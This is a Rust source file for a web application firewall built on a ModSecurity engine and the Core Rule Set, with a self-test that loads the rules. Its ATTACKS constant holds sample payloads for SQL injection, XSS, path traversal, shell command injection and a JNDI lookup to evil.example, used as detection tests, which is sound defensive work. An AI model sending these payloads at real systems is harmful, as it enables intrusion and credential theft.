//! A firewall with its rules.

use std::collections::HashMap;
use std::fmt::Write as _;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::{Arc, Mutex, PoisonError};

use crate::ffi::{Engine, Rules, Transaction};
use crate::found::{FORM, Sum, finding, weigh_form};
use crate::message::{Finding, Look, Request, Response};
use crate::{Error, MAX_BODY, Places};

/// Media types of responses whose bodies are looked into.
pub(crate) const READ: &[&str] = &[
    "text/plain",
    "text/html",
    "text/xml",
    "application/json",
    "application/xml",
    "application/xhtml+xml",
];

/// Sets of rules that differ in paranoia and exclusions; they share their rules.
const MAX_SETS: usize = 64;

/// The engine with the Core Rule Set. Looking takes about half a millisecond of the thread that asks.
#[derive(Debug)]
pub struct Firewall {
    engine: Arc<Engine>,
    all: Arc<Rules>,
    sets: Mutex<HashMap<Look, Arc<Rules>>>,
}

/// What stands before the set: it only detects, looks at bodies up to its limit, and reads JSON and XML as such.
fn before() -> String {
    format!(
        r#"
SecRuleEngine DetectionOnly
SecAuditEngine Off
SecRequestBodyAccess On
SecRequestBodyLimit {MAX_BODY}
SecRequestBodyNoFilesLimit {MAX_BODY}
SecRequestBodyLimitAction ProcessPartial
SecResponseBodyAccess On
SecResponseBodyMimeType {}
SecResponseBodyLimit {MAX_BODY}
SecResponseBodyLimitAction ProcessPartial
SecPcreMatchLimit 100000
SecPcreMatchLimitRecursion 100000
SecArgumentSeparator &
SecCookieFormat 0
SecRule REQUEST_HEADERS:Content-Type "@rx ^(?:application(?:/soap\+|/)|text/)xml" \
  "id:100001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "@rx ^application/(?:[a-z0-9.-]+[+])?json(?:[\s;]|$)" \
  "id:100002,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQBODY_ERROR|MULTIPART_STRICT_ERROR "!@eq 0" \
  "id:{FORM},phase:2,t:none,pass,log,msg:'The form of the body is broken',severity:CRITICAL"
"#,
        READ.join(" ")
    )
}

/// The set's own rules say the sum from 1 on, so that it is told whatever the policy's threshold is.
fn first(look: &Look) -> String {
    let level = look.paranoia.clamp(1, 4);
    let mut out = format!(
        "SecAction \"id:100003,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level={level},\
         setvar:tx.executing_paranoia_level={level},setvar:tx.inbound_anomaly_score_threshold=1,\
         setvar:tx.outbound_anomaly_score_threshold=1\"\n"
    );
    for id in &look.exclude {
        let _ = writeln!(out, "SecRuleRemoveById {id}");
    }
    out
}

impl Firewall {
    /// Loads the rules and tries them: known attacks have to be found, an ordinary request left alone.
    ///
    /// # Errors
    /// [`Error::Rules`] for rules that are missing or wrong; [`Error::SelfTest`] if they do not do what they are for.
    pub fn load(places: &Places) -> Result<Self, Error> {
        let engine = Arc::new(Engine::new()?);
        let mut all = Rules::new()?;
        all.add(&before())?;
        all.add_file(&places.setup)?;
        for file in files(places)? {
            all.add_file(&file)?;
        }
        let firewall = Self {
            engine,
            all: Arc::new(all),
            sets: Mutex::default(),
        };
        firewall.test()?;
        Ok(firewall)
    }

    /// Looks at a request.
    ///
    /// # Errors
    /// [`Error::Failed`]: then nothing is known of it.
    pub fn request(&self, look: &Look, request: &Request<'_>) -> Result<Finding, Error> {
        let mut transaction = self.begin(look, request)?;
        let mut found = finding(&transaction.take_lines(), Sum::Inbound);
        weigh_form(&mut found, request.is_whole && request.body.len() <= MAX_BODY);
        Ok(found)
    }

    /// Looks at a response, which is one to this request.
    ///
    /// # Errors
    /// Likewise.
    pub fn response(&self, look: &Look, request: &Request<'_>, response: &Response<'_>) -> Result<Finding, Error> {
        let mut transaction = self.begin(look, request)?;
        // What the request came to is another action's.
        drop(transaction.take_lines());
        transaction.response_fields(response.status, request.version, response.fields)?;
        transaction.response_body(head(response.body))?;
        Ok(finding(&transaction.take_lines(), Sum::Outbound))
    }

    fn begin(&self, look: &Look, request: &Request<'_>) -> Result<Transaction, Error> {
        let rules = self.rules(look)?;
        let mut transaction = Transaction::new(&self.engine, &rules)?;
        let address = |of: SocketAddr| of.ip().to_canonical().to_string();
        let (client, server) = (address(request.client), address(request.server));
        transaction.connection((&client, request.client.port()), (&server, request.server.port()))?;
        transaction.uri(request.target, request.method, request.version)?;
        transaction.request_fields(request.fields)?;
        transaction.request_body(head(request.body))?;
        Ok(transaction)
    }

    /// The rules for this way to look.
    fn rules(&self, look: &Look) -> Result<Arc<Rules>, Error> {
        let mut sets = self.sets.lock().unwrap_or_else(PoisonError::into_inner);
        if let Some(known) = sets.get(look) {
            return Ok(known.clone());
        }
        let mut rules = Rules::new()?;
        rules.add(&first(look))?;
        rules.merge(&self.all)?;
        let rules = Arc::new(rules);
        if sets.len() >= MAX_SETS {
            // Which one is all the same: it is made again in a moment.
            sets.clear();
        }
        sets.insert(look.clone(), rules.clone());
        Ok(rules)
    }

    fn test(&self) -> Result<(), Error> {
        let look = Look::default();
        let fields: &[(&[u8], &[u8])] = &[
            (b"host", b"app.example.com"),
            (b"user-agent", b"Mozilla/5.0"),
            (b"accept", b"text/html"),
        ];
        let ordinary = Request {
            client: SocketAddr::from(([192, 0, 2, 1], 40_000)),
            server: SocketAddr::from(([192, 0, 2, 2], 443)),
            method: "GET",
            target: "/products?id=7&name=a+lamp",
            version: "1.1",
            fields,
            body: b"",
            is_whole: true,
        };
        if self.request(&look, &ordinary)?.score != 0 {
            return Err(Error::SelfTest("an ordinary request is taken for an attack"));
        }
        for (target, missed) in ATTACKS {
            let attack = Request { target, ..ordinary };
            if self.request(&look, &attack)?.score < 5 {
                return Err(Error::SelfTest(missed));
            }
        }
        let leak = Response {
            status: 200,
            fields: &[(b"content-type", b"text/plain")],
            body:
                b"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version",
        };
        if self.response(&look, &ordinary, &leak)?.score < 4 {
            return Err(Error::SelfTest("an error of a database in a response is not found"));
        }
        Ok(())
    }
}

/// What has to be found, and what is said if it is not.
const ATTACKS: &[(&str, &str)] = &[
    (
        "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "an SQL injection is not found",
    ),
    ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "a script is not found"),
    (
        "/?file=../../../../etc/passwd",
        "a path to a file of the system is not found",
    ),
    ("/?cmd=;cat%20/etc/passwd", "a command of a shell is not found"),
    ("/?x=$%7Bjndi:ldap://evil.example/a%7D", "a JNDI lookup is not found"),
];

fn head(body: &[u8]) -> &[u8] {
    body.get(..body.len().min(MAX_BODY)).unwrap_or_default()
}

/// The files of the set, in their order.
fn files(places: &Places) -> Result<Vec<PathBuf>, Error> {
    let wrong = |e: std::io::Error| Error::Rules(format!("{}: {e}", places.rules.display()));
    let mut files = Vec::new();
    for entry in std::fs::read_dir(&places.rules).map_err(wrong)? {
        let path = entry.map_err(wrong)?.path();
        if path.extension().is_some_and(|e| e == "conf") {
            files.push(path);
        }
    }
    if files.is_empty() {
        return Err(Error::Rules(format!("{} has none", places.rules.display())));
    }
    files.sort();
    Ok(files)
}
